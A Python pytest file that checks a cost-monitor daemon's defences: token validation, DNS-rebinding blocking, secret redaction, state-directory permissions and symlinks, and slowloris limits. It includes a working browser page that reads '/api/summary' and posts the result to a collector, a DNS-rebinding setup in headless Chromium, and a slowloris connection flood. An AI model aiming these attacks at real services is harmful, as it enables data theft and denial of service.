"""Issue 14, items 9-13: tokens, DNS rebinding, secrets, the state dir, slow clients.

Each test is named after what it guards. The end-to-end ones run the real daemon against
the real simulator on 127.0.0.1 (Chromium and curl for the DNS-rebinding test).
"""

from __future__ import annotations

import http.server
import logging
import os
import shutil
import socket
import stat
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import Any

import anyio
import httpx
import orjson
import pytest
from aiohttp.test_utils import TestClient, TestServer
from pydantic import SecretStr

from cco_cost_monitor.alerts import AlertDispatcher
from cco_cost_monitor.api import make_app
from cco_cost_monitor.budgets import Alert
from cco_cost_monitor.cli import without_secret_flags
from cco_cost_monitor.config import AlertSettings, Settings, SourceSpec, load_settings
from cco_cost_monitor.errors import ConfigError, StartupError
from cco_cost_monitor.extensions import install
from cco_cost_monitor.logs import configure_logging
from cco_cost_monitor.pidlock import PidLock
from cco_cost_monitor.redact import child_environment, origin_only, redact_url
from cco_cost_monitor.server import Service, _announce
from cco_cost_monitor.statedir import make_private, open_private
from tests.conftest import free_port
from tests.helpers_obs import CLI, MONITOR_ENV, get, require_binary, simulator, spawn, wait_until

TOKEN = "0123456789abcdef-token"


def run(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    full_env = {**os.environ, **(env or {})}
    full_env.pop("NOTIFY_SOCKET", None)
    return subprocess.run(
        [*CLI, *args], capture_output=True, text=True, timeout=60, env=full_env, check=False
    )


# -- 9: an empty or short token is a configuration error ------------------------------------


@pytest.mark.parametrize("value", ["", " ", "short", "x" * 15, "sixteen chars ok"])
def test_empty_or_short_health_token_is_refused_from_flag_env_and_file(
    value: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``health_token`` "", whitespace or < 16 characters fails from every layer."""
    monkeypatch.delenv("CCO_MONITOR_HEALTH_TOKEN", raising=False)
    with pytest.raises(ConfigError, match=r"health_token \(command line\)"):
        load_settings({"health_token": value, "state_dir": tmp_path})
    monkeypatch.setenv("CCO_MONITOR_HEALTH_TOKEN", value)
    with pytest.raises(ConfigError, match=r"health_token \(environment\)"):
        load_settings({"state_dir": tmp_path})
    monkeypatch.delenv("CCO_MONITOR_HEALTH_TOKEN")
    config = tmp_path / "config.toml"
    config.write_text(f"health_token = {value!r}\n".replace("'", '"'))
    with pytest.raises(ConfigError, match=r"health_token \(config file\)"):
        load_settings({"config": config})
    good = load_settings({"health_token": "x" * 16, "state_dir": tmp_path}).settings
    assert good.health_token is not None


def test_empty_health_token_flag_stops_the_daemon_before_it_listens(tmp_path: Path) -> None:
    """``start --foreground --health-token ""`` exits 1 with a clear message, nothing served."""
    result = run(
        "start",
        "--foreground",
        "--health-host",
        "127.0.0.1",
        "--health-port",
        str(free_port()),
        "--health-token",
        "",
        "--state-dir",
        str(tmp_path / "s"),
        "--source",
        "http://127.0.0.1:9/api/stream",
    )
    assert result.returncode == 1, result.stderr
    assert "health_token (command line)" in result.stderr
    assert "at least 16 characters" in result.stderr


# -- 10: DNS rebinding --------------------------------------------------------------------


def client_for(tmp_path: Path, **settings: Any) -> TestClient:  # type: ignore[type-arg]
    service = Service(
        Settings(
            sources=[SourceSpec(name="main", url="http://127.0.0.1:9/api/stream")],
            state_dir=tmp_path,
            **settings,
        )
    )
    app = make_app(service)
    install(app, service)
    return TestClient(TestServer(app, host="127.0.0.1"))


async def test_foreign_host_header_gets_no_data_on_a_loopback_bind(tmp_path: Path) -> None:
    """``Host: evil.example`` gets 421 and no data; the bound address and localhost pass."""
    async with client_for(tmp_path, allowed_hosts=["monitor.lan"]) as client:
        port = client.port
        for host in ("evil.example", f"evil.example:{port}", "127.0.0.1.evil.example", "[::2]"):
            response = await client.get("/api/summary", headers={"Host": host})
            assert response.status == 421, host
            assert "totals" not in await response.text()
            assert (await client.get("/livez", headers={"Host": host})).status == 421
        for host in (
            f"127.0.0.1:{port}",
            "127.0.0.1",
            f"localhost:{port}",
            "LOCALHOST.",
            "monitor.lan",
        ):
            response = await client.get("/api/summary", headers={"Host": host})
            assert response.status == 200, host
    async with client_for(tmp_path, allowed_hosts=["*"]) as client:
        assert (await client.get("/api/summary", headers={"Host": "any.example"})).status == 200


async def test_non_loopback_bind_is_guarded_by_the_token_not_the_host(tmp_path: Path) -> None:
    """Off loopback (reached by other names on purpose) the Host is not checked."""
    async with client_for(tmp_path, health_host="0.0.0.0", health_token=SecretStr(TOKEN)) as client:
        auth = {"Authorization": f"Bearer {TOKEN}"}
        response = await client.get("/api/summary", headers={"Host": "monitor.example", **auth})
        assert response.status == 200


ATTACKER_PAGE = """<!doctype html><title>cute cats</title><script>
const report = (data) => fetch("http://127.0.0.1:%(collector)d/report",
  {method: "POST", mode: "no-cors", body: JSON.stringify(data)});
report({stage: "loaded", origin: location.origin});
async function steal() {
  try {
    const response = await fetch("/api/summary", {cache: "no-store"});
    report({stage: "read", status: response.status, body: (await response.text()).slice(0, 300)});
  } catch (error) {
    report({stage: "error", error: String(error)});
  }
  setTimeout(steal, 250);
}
setTimeout(steal, 250);
</script>"""


class Collector(http.server.ThreadingHTTPServer):
    """Receives what the attacker page reports (what a real attacker would exfiltrate)."""

    def __init__(self) -> None:
        self.reports: list[dict[str, Any]] = []
        collector = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                length = min(int(self.headers.get("Content-Length", "0")), 65536)
                if len(collector.reports) < 1000:
                    collector.reports.append(orjson.loads(self.rfile.read(length)))
                self.send_response(204)
                self.end_headers()

            def log_message(self, *_: Any) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Handler)


class AttackerSite(http.server.ThreadingHTTPServer):
    """The attacker's site at rebind.test:PORT before the name is rebound to the monitor."""

    def __init__(self, port: int, page: str) -> None:
        body = page.encode()

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_: Any) -> None:
                pass

        super().__init__(("127.0.0.1", port), Handler)


@contextmanager
def serving(server: http.server.ThreadingHTTPServer) -> Iterator[None]:
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.slow
def test_rebinding_page_in_chromium_and_curl_cannot_read_the_summary(tmp_path: Path) -> None:
    """A page of rebind.test (later resolving to 127.0.0.1) reads no spend from the daemon.

    The attack as a browser lives it: Chromium loads http://rebind.test:PORT/ from the
    attacker, then the attacker's server goes away and the name points at the monitor on
    the same port (``--host-resolver-rules`` stands in for the rebinding DNS server). The
    page's same-origin ``fetch('/api/summary')`` then reaches the monitor with
    ``Host: rebind.test:PORT``. curl does the same with ``--resolve``.
    """
    binary = require_binary("chromium", "chromium-browser", "google-chrome")
    curl = shutil.which("curl")
    port = free_port()
    collector = Collector()
    with (
        serving(collector),
        simulator(tmp_path) as (_, sim_url),
    ):
        page = ATTACKER_PAGE % {"collector": collector.server_address[1]}
        attacker = AttackerSite(port, page)
        browser: subprocess.Popen[bytes] | None = None
        with serving(attacker):
            browser = subprocess.Popen(
                [
                    binary,
                    "--headless",
                    "--no-sandbox",
                    "--disable-gpu",
                    "--no-first-run",
                    "--disable-background-networking",
                    "--disable-component-update",
                    "--disable-sync",
                    f"--user-data-dir={tmp_path / 'chromium-profile'}",
                    "--host-resolver-rules=MAP rebind.test 127.0.0.1",
                    f"http://rebind.test:{port}/",
                ],
                stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL,
                cwd=tmp_path,
            )
            try:
                wait_until(lambda: any(r["stage"] == "loaded" for r in collector.reports), 60)
            except BaseException:
                browser.kill()
                browser.wait(10)
                raise
        try:
            args = [
                *CLI,
                "start",
                "--foreground",
                "--source",
                f"{sim_url}/api/stream",
                "--health-port",
                str(port),
                "--state-dir",
                str(tmp_path / "state"),
            ]
            with spawn(args, tmp_path, "monitor", MONITOR_ENV) as proc:
                proc.wait_for_output(r'"health_url"')
                url = f"http://127.0.0.1:{port}"
                wait_until(lambda: get(f"{url}/api/summary").json()["totals"]["events"] >= 1, 20)
                # The page now talks to the monitor: wait for answers from it, not the attacker.
                wait_until(
                    lambda: (
                        sum(1 for r in collector.reports if r.get("status") not in (None, 200)) >= 3
                        or any("totals" in r.get("body", "") for r in collector.reports)
                    ),
                    30,
                )
                reads = [r for r in collector.reports if r["stage"] == "read"]
                stolen = [r for r in reads if "totals" in r.get("body", "")]
                assert not stolen, f"the page read the spend: {stolen[0]}"
                assert any(r["status"] == 421 for r in reads), reads[-3:]
                if curl:
                    rebound = subprocess.run(
                        [
                            curl,
                            "-s",
                            "--noproxy",
                            "*",
                            "--resolve",
                            f"rebind.test:{port}:127.0.0.1",
                            "-w",
                            "\n%{http_code}",
                            f"http://rebind.test:{port}/api/summary",
                        ],
                        capture_output=True,
                        text=True,
                        timeout=20,
                        check=False,
                    ).stdout
                    assert rebound.endswith("\n421"), rebound
                    assert "totals" not in rebound
                # The daemon itself answers on its own address.
                assert get(f"{url}/api/summary").status_code == 200
        finally:
            browser.kill()
            browser.wait(10)


# -- 11: secrets in plain sight -----------------------------------------------------------


def test_token_flags_are_moved_out_of_argv() -> None:
    """Both ``--flag value`` and ``--flag=value`` forms are taken out; the rest stays."""
    argv = ["start", "--health-token", "A" * 16, "--source-token=B", "--source", "u", "--", "x"]
    clean, moved = without_secret_flags(argv)
    assert clean == ["start", "--source", "u", "--", "x"]
    assert moved == {"CCO_MONITOR_HEALTH_TOKEN": "A" * 16, "CCO_MONITOR_SOURCE_TOKEN": "B"}


def test_source_urls_with_credentials_are_moved_out_of_argv_in_order() -> None:
    """A --source holding user:password@ or ?token= takes every --source out (the order names
    unnamed sources), and the moved list reads back as the same sources; harmless URLs stay."""
    argv = [
        "start",
        "--source=http://127.0.0.1:3000/api/stream",
        "--source",
        "team=http://bob:hunter2@127.0.0.1:3001/api/stream",
        "--health-port",
        "0",
    ]
    clean, moved = without_secret_flags(argv)
    assert clean == ["start", "--health-port", "0"]
    assert orjson.loads(moved["CCO_MONITOR_SOURCE_FLAGS"]) == [
        "http://127.0.0.1:3000/api/stream",
        "team=http://bob:hunter2@127.0.0.1:3001/api/stream",
    ]
    harmless = ["start", "--source", "http://127.0.0.1:3000/api/stream?page=2"]
    assert without_secret_flags(harmless) == (harmless, {})
    assert (
        "CCO_MONITOR_SOURCE_FLAGS"
        in without_secret_flags(
            ["start", "--source", "http://127.0.0.1:3000/api/stream?token=T0K"]
        )[1]
    )


def test_a_state_dir_left_readable_is_made_private(tmp_path: Path) -> None:
    """Files and a dir an older version (or umask 022) left readable lose group/other bits;
    a symlinked file's target and a file opened again keep their content."""
    state = tmp_path / "state"
    state.mkdir()
    state.chmod(0o755)
    for name in ("monitor.db", "monitor.log", "daemon.json"):
        (state / name).write_text(name)
        (state / name).chmod(0o644)
    outside = tmp_path / "elsewhere.txt"
    outside.write_text("not ours to change")
    outside.chmod(0o644)
    (state / "link").symlink_to(outside)
    changed = make_private(state)
    assert sorted(changed) == [
        "daemon.json 0644",
        "monitor.db 0644",
        "monitor.log 0644",
        "state/ 0755",
    ]
    assert mode_of(state) == 0o700
    for name in ("monitor.db", "monitor.log", "daemon.json"):
        assert mode_of(state / name) == 0o600
        assert (state / name).read_text() == name
    assert mode_of(outside) == 0o644
    assert make_private(state) == []
    loose = state / "again.log"
    loose.write_text("kept")
    loose.chmod(0o640)
    os.close(open_private(loose, os.O_WRONLY | os.O_APPEND))
    assert mode_of(loose) == 0o600
    assert loose.read_text() == "kept"


def cmdline(pid: int) -> str:
    return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode()


def mode_of(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.mark.slow
def test_daemon_argv_holds_no_token_and_its_files_are_private(tmp_path: Path) -> None:
    """A token given as a flag, or a --source URL with a password, is not in
    /proc/PID/cmdline (foreground and background), still works, and every file of the
    daemon is 0600 in a 0700 dir (those an older version left readable too)."""
    source_secret = "SOURCE-SECRET-0123456789"
    flags = ["--health-token", TOKEN, f"--source-token={source_secret}"]
    with simulator(tmp_path) as (_, sim_url):
        args = [
            *CLI,
            "start",
            "--foreground",
            "--source",
            f"{sim_url}/api/stream",
            "--health-port",
            "0",
            "--state-dir",
            str(tmp_path / "fg"),
            *flags,
        ]
        with spawn(args, tmp_path, "fg", MONITOR_ENV) as proc:
            match = proc.wait_for_output(r'"health_url": "(http://127\.0\.0\.1:\d+)/health"')
            url = match.group(1)
            line = cmdline(proc.popen.pid)
            assert "start" in line
            assert TOKEN not in line
            assert source_secret not in line
            assert get(f"{url}/api/summary").status_code == 401
            assert get(f"{url}/api/summary", TOKEN).status_code == 200

        state = tmp_path / "bg"
        # Left by an older version under umask 022: readable by every local user.
        state.mkdir(mode=0o755)
        state.chmod(0o755)
        (state / "monitor.log").write_text("")
        (state / "monitor.log").chmod(0o644)
        env = {**MONITOR_ENV, "CCO_MONITOR_HOME": str(tmp_path)}
        # A source URL with a password is moved out of argv too.
        with_password = sim_url.replace("http://", f"http://user:{source_secret}-PW@")
        # The user's umask is the usual 022: the daemon must not rely on it.
        started = run(
            "start",
            "--source",
            f"{with_password}/api/stream",
            "--health-port",
            "0",
            "--state-dir",
            str(state),
            *flags,
            env=env,
        )
        assert started.returncode == 0, started.stderr
        try:
            pid = int((state / "daemon.pid").read_text())
            line = cmdline(pid)
            assert TOKEN not in line
            assert source_secret not in line
            assert "--source" not in line
            assert "state_permissions_tightened" in (state / "monitor.log").read_text()
            url = orjson.loads((state / "daemon.json").read_bytes())["health_url"]
            wait_until(lambda: get(f"{url}/api/summary", TOKEN).json()["totals"]["events"] >= 1, 20)
            assert get(f"{url}/api/summary").status_code == 401
            wait_until((state / "monitor.db-wal").exists, 10)
            assert mode_of(state) == 0o700
            for name in ("daemon.pid", "daemon.json", "monitor.log", "monitor.db"):
                assert mode_of(state / name) == 0o600, name
            for name in ("monitor.db-wal", "monitor.db-shm"):
                if (state / name).exists():
                    assert mode_of(state / name) == 0o600, name
        finally:
            run("stop", "--state-dir", str(state), env=env)


def test_redact_url_hides_passwords_and_token_query_values() -> None:
    """user:pass@ and ?token=/key=/sig= values go; host, path and other keys stay."""
    url = "https://bob:hunter2@proxy.example:8443/api/stream?token=T0K&page=2&api_key=K3Y&sig=S"
    shown = redact_url(url)
    for secret in ("hunter2", "T0K", "K3Y", "=S"):
        assert secret not in shown
    assert (
        shown
        == "https://bob:***@proxy.example:8443/api/stream?token=***&page=2&api_key=***&sig=***"
    )
    assert redact_url("http://127.0.0.1:3000/api/stream") == "http://127.0.0.1:3000/api/stream"
    harmless = "http://127.0.0.1:3000/api/streams/subscribe?a=b+c&flag"
    assert redact_url(harmless) == harmless
    assert origin_only("https://hooks.example/services/T000/B000/XXXX?x=1") == (
        "https://hooks.example"
    )


@pytest.mark.slow
def test_source_url_credentials_are_redacted_in_health_summary_log_and_config(
    tmp_path: Path,
) -> None:
    """A source URL's password and ?token= never show; `config` hides the webhook path."""
    password, query_token, hook_secret = "Pa55w0rdXYZ", "QTOKEN987654", "HOOKPATHSECRET"
    with simulator(tmp_path) as (_, sim_url):
        host = sim_url.removeprefix("http://")
        source = f"http://monitor:{password}@{host}/api/stream?token={query_token}"
        state = tmp_path / "state"
        state.mkdir(mode=0o700)
        config = state / "config.toml"
        config.write_text(
            f'[alerts]\nwebhook_url = "http://127.0.0.1:9/hooks/{hook_secret}?sig={hook_secret}"\n'
        )
        args = [*CLI, "start", "--foreground", "--source", source, "--health-port", "0"]
        args += ["--state-dir", str(state), "--log-level", "debug"]
        with spawn(args, tmp_path, "monitor", MONITOR_ENV) as proc:
            match = proc.wait_for_output(r'"health_url": "(http://127\.0\.0\.1:\d+)/health"')
            url = match.group(1)
            wait_until(lambda: get(f"{url}/api/summary").json()["totals"]["events"] >= 1, 20)
            proc.wait_for_output(r'"event": "connected"')
            texts = {
                "/health": get(f"{url}/health").text,
                "/api/summary": get(f"{url}/api/summary").text,
                "/metrics": get(f"{url}/metrics").text,
            }
        texts["log"] = proc.output()
        for extra in ([], ["--json"]):
            shown = run("config", *extra, "--source", source, "--state-dir", str(state))
            assert shown.returncode == 0, shown.stderr
            texts[f"config {extra}"] = shown.stdout
        for where, text in texts.items():
            for secret in (password, query_token, hook_secret):
                assert secret not in text, (where, secret)
        assert "monitor:***@" in texts["/health"]
        assert "monitor:***@" in texts["/api/summary"]
        assert "token=***" in texts["log"]
        assert "http://127.0.0.1:9" in texts["config []"]


async def test_alert_command_gets_no_monitor_secrets_in_its_environment(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """CCO_MONITOR_HEALTH_TOKEN (and every CCO_MONITOR_* but the state's place) is scrubbed."""
    monkeypatch.setenv("CCO_MONITOR_HEALTH_TOKEN", TOKEN)
    monkeypatch.setenv("CCO_MONITOR_SOURCE_TOKEN", "source-secret")
    monkeypatch.setenv("CCO_MONITOR_SOURCES", "http://u:p@127.0.0.1:1/api/stream")
    monkeypatch.setenv("CCO_MONITOR_HOME", str(tmp_path))
    out = tmp_path / "env.json"
    script = tmp_path / "sink.py"
    script.write_text(
        f"import json, os\nopen({str(out)!r}, 'w').write(json.dumps(dict(os.environ)))\n"
    )
    dispatcher = AlertDispatcher(AlertSettings(command=f"{sys.executable} {script}"))
    async with anyio.create_task_group() as group:
        group.start_soon(dispatcher.run)
        dispatcher.submit(
            Alert("threshold", "daily", None, 0.5, "half", __import__("datetime").datetime.now())
        )
        with anyio.fail_after(20):
            await dispatcher.drain()
        group.cancel_scope.cancel()
    env = orjson.loads(out.read_bytes())
    assert env["CCO_ALERT_KIND"] == "threshold"
    assert env["CCO_MONITOR_HOME"] == str(tmp_path)
    for name in ("CCO_MONITOR_HEALTH_TOKEN", "CCO_MONITOR_SOURCE_TOKEN", "CCO_MONITOR_SOURCES"):
        assert name not in env
    assert TOKEN not in out.read_text()
    assert child_environment({"PATH": "/bin", "cco_monitor_x": "1"}) == {"PATH": "/bin"}


# -- 12: symlinks and permissions in the state dir ----------------------------------------


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    target = tmp_path / "victim.txt"
    target.write_text("precious\n")
    return target


def test_planted_pid_file_symlink_is_not_written_through(tmp_path: Path, victim: Path) -> None:
    """A daemon.pid symlink makes acquire fail naming the file; the target is untouched."""
    link = tmp_path / "daemon.pid"
    link.symlink_to(victim)
    with pytest.raises(StartupError, match="symlink"):
        PidLock(link).acquire()
    assert victim.read_text() == "precious\n"


def test_planted_log_symlink_is_not_written_through(tmp_path: Path, victim: Path) -> None:
    """A monitor.log symlink is refused; the log file is created 0600 otherwise."""
    link = tmp_path / "monitor.log"
    link.symlink_to(victim)
    try:
        with pytest.raises(StartupError, match="symlink"):
            configure_logging(log_file=link)
        assert victim.read_text() == "precious\n"
        link.unlink()
        configure_logging(log_file=link)
        assert mode_of(link) == 0o600
    finally:
        streams = [getattr(h, "stream", None) for h in logging.getLogger().handlers]
        configure_logging()  # back to stderr
        for stream in streams:
            if stream is not None and stream is not sys.stderr:
                stream.close()


def test_planted_runtime_tmp_symlink_is_not_written_through(tmp_path: Path, victim: Path) -> None:
    """daemon.json.tmp planted as a link is replaced, not followed; daemon.json is 0600."""
    (tmp_path / "daemon.json.tmp").symlink_to(victim)
    _announce(Settings(state_dir=tmp_path), 1234)
    assert victim.read_text() == "precious\n"
    document = orjson.loads((tmp_path / "daemon.json").read_bytes())
    assert document["health_url"].endswith(":1234")
    assert mode_of(tmp_path / "daemon.json") == 0o600
    assert not (tmp_path / "daemon.json").is_symlink()


def start_foreground(state: Path, *extra: str) -> subprocess.CompletedProcess[str]:
    return run(
        "start",
        "--foreground",
        "--health-port",
        str(free_port()),
        "--state-dir",
        str(state),
        "--source",
        "http://127.0.0.1:9/api/stream",
        *extra,
    )


def test_dangling_database_symlink_is_refused(tmp_path: Path) -> None:
    """A monitor.db pointing at a missing file stops the start; nothing is created."""
    state = tmp_path / "state"
    state.mkdir(mode=0o700)
    target = tmp_path / "elsewhere.db"
    (state / "monitor.db").symlink_to(target)
    result = start_foreground(state)
    assert result.returncode == 1
    assert "symlink to a missing file" in result.stderr
    assert not target.exists()


@pytest.mark.parametrize("mode", [0o777, 0o770, 0o757])
def test_state_dir_writable_by_others_is_refused(tmp_path: Path, mode: int) -> None:
    """A state dir writable by group or others stops the start with a clear message."""
    state = tmp_path / "state"
    state.mkdir()
    state.chmod(mode)
    result = start_foreground(state)
    assert result.returncode == 1
    assert "writable by group or others" in result.stderr
    assert "chmod go-w" in result.stderr
    assert not (state / "monitor.db").exists()


def test_config_file_writable_by_others_is_refused(tmp_path: Path) -> None:
    """A 0666 config.toml (it picks the alert command) is refused by every command."""
    state = tmp_path / "state"
    state.mkdir(mode=0o700)
    config = state / "config.toml"
    config.write_text('[alerts]\ncommand = "touch /nonexistent/owned"\n')
    config.chmod(0o666)
    result = start_foreground(state)
    assert result.returncode == 1
    assert "writable by group or others" in result.stderr
    shown = run("config", "--state-dir", str(state))
    assert shown.returncode == 1
    assert "chmod go-w" in shown.stderr
    config.chmod(0o644)
    assert run("config", "--state-dir", str(state)).returncode == 0


# -- 13: slowloris ------------------------------------------------------------------------


def _closed_by_peer(sock: socket.socket) -> bool:
    """Whether the other end closed ``sock`` (a non-blocking socket)."""
    try:
        return sock.recv(1024, socket.MSG_DONTWAIT) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


@pytest.mark.slow
@pytest.mark.parametrize("header_timeout", [2.0, 60.0])
def test_slow_clients_are_cut_off_and_health_stays_reachable(
    tmp_path: Path, header_timeout: float
) -> None:
    """A slowloris holding 400 connections (reopening every one the daemon closes), each
    trickling header bytes, against a daemon limited to 256 descriptors: /health answers
    throughout, and once the attacker stops reopening, every slow connection is closed
    after the header timeout. With a header timeout longer than the attack, the
    connection cap alone keeps /health reachable."""
    port = free_port()
    args = ["sh", "-c", 'ulimit -n 256 && exec "$@"', "sh", *CLI, "start", "--foreground"]
    args += ["--source", "http://127.0.0.1:9/api/stream", "--health-port", str(port)]
    args += ["--state-dir", str(tmp_path / "state")]
    env = {**MONITOR_ENV, "CCO_MONITOR_HTTP_HEADER_TIMEOUT_SECONDS": str(header_timeout)}
    slow: list[socket.socket] = []
    head = b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "
    stop = threading.Event()
    refused: list[str] = []

    def attack() -> None:
        while not stop.is_set():
            for sock in [sock for sock in slow if _closed_by_peer(sock)]:
                sock.close()
                slow.remove(sock)
            while len(slow) < 400 and not stop.is_set():
                try:
                    sock = socket.create_connection(("127.0.0.1", port), timeout=1)
                    sock.sendall(head)
                    sock.setblocking(False)  # for _closed_by_peer
                except OSError as exc:  # the daemon is not accepting: the attack works
                    refused.append(repr(exc))
                    break
                slow.append(sock)
            for sock in slow:
                with suppress(OSError):
                    sock.send(b"a")
            stop.wait(0.2)

    with spawn(args, tmp_path, "monitor", env) as proc:
        proc.wait_for_output(r'"health_url"')
        url = f"http://127.0.0.1:{port}"
        attacker = threading.Thread(target=attack, daemon=True)
        attacker.start()
        try:
            wait_until(lambda: len(slow) >= 30, 10)
            failures: list[str] = []
            answered = 0
            deadline = time.monotonic() + 6
            while time.monotonic() < deadline:
                try:
                    response = httpx.get(f"{url}/health", timeout=3, trust_env=False)
                    answered += response.status_code in (200, 503)
                except httpx.HTTPError as exc:
                    failures.append(type(exc).__name__)
                time.sleep(0.3)
            stop.set()
            attacker.join(15)
            # Known limit (issue 14): under a loaded loop a probe whose request the kernel holds
            # but the daemon has not read yet can be the oldest waiting connection, and be
            # evicted (reset). One such probe in the window is tolerated, not more.
            assert len(failures) <= 1, (failures, refused[-1:])
            assert answered >= 10
            if header_timeout < 10:
                # The attacker stops reopening: past the header timeout, all are closed.
                wait_until(lambda: all(_closed_by_peer(sock) for sock in slow), 10)
        finally:
            stop.set()
            attacker.join(15)
            for sock in slow:
                sock.close()


def test_reload_refuses_a_config_file_made_writable_by_others(tmp_path: Path) -> None:
    """A config.toml turned 0666 while running is refused on reload; the old one is kept."""
    config = tmp_path / "config.toml"
    config.write_text("[budgets]\ndaily_usd = 10\n")
    flags = {"config": str(config), "state_dir": str(tmp_path / "s")}
    service = Service(load_settings(flags).settings, flags=flags)
    config.write_text('[budgets]\ndaily_usd = 20\n[alerts]\ncommand = "touch /nonexistent/x"\n')
    config.chmod(0o666)
    assert not service.reload()
    assert service.settings.budgets.daily_usd == 10
    assert service.settings.alerts.command is None
    config.chmod(0o600)
    assert service.reload()
    assert service.settings.budgets.daily_usd == 20
